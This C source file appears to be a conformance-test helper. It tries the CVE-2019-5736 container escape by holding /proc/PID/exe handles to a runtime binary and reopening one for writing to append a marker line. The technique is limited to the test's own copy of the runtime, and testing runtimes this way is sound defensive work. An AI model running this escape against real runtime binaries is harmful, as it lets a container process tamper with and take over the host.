// SPDX-License-Identifier: MIT
/*
 * exec_exe INODE DEVICE MILLISECONDS: run as a container process, try to
 * overwrite the runtime's binary on the host through /proc/PID/exe of a
 * runtime process that shows up in the container (CVE-2019-5736 class): for
 * MILLISECONDS, open every other process's /proc/PID/exe with O_PATH and
 * keep those that are the file INODE on DEVICE (st_ino, st_dev of the host
 * file: the case's copy of the runtime, so nothing else is ever written);
 * "opened: /proc/PID/exe". Once that process has exec'd something else and
 * no other process runs the binary, reopening the kept fd for writing
 * succeeds (ETXTBSY until then): append a line, "overwrote: via
 * /proc/PID/exe", and stop. Prints "done: held N" at the end.
 */
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

int main(int argc, char **argv)
{
	int held[64], nheld = 0;
	long heldpid[64];
	unsigned long long ino, dev;
	long long end;
	char self[16];

	if (argc != 4) {
		fprintf(stderr, "usage: exec_exe INODE DEVICE MILLISECONDS\n");
		return 2;
	}
	ino = strtoull(argv[1], NULL, 10);
	dev = strtoull(argv[2], NULL, 10);
	end = now_ms() + atol(argv[3]);
	snprintf(self, sizeof(self), "%d", (int)getpid());
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	while (now_ms() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *de;

		if (proc == NULL) {
			perror("opendir /proc");
			return 1;
		}
		while (nheld < 64 && (de = readdir(proc)) != NULL) {
			char path[PATH_MAX];
			struct stat st;
			long pid = atol(de->d_name);
			int fd, i;

			if (de->d_name[0] < '0' || de->d_name[0] > '9' || strcmp(de->d_name, self) == 0)
				continue;
			for (i = 0; i < nheld && heldpid[i] != pid; i++)
				;
			if (i < nheld)
				continue;
			snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (fstat(fd, &st) < 0 || st.st_ino != ino || st.st_dev != dev) {
				close(fd);
				continue;
			}
			printf("opened: %s\n", path);
			heldpid[nheld] = pid;
			held[nheld++] = fd;
		}
		closedir(proc);
		for (int i = 0; i < nheld; i++) {
			char path[64];
			static const char line[] = "\nconform: overwritten from a container\n";
			int w;

			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
			w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (w < 0)
				continue;
			if (write(w, line, sizeof(line) - 1) < 0)
				perror("write");
			close(w);
			printf("overwrote: via fd %d\n", held[i]);
			printf("done: held %d\n", nheld);
			return 0;
		}
	}
	printf("done: held %d\n", nheld);
	return 0;
}
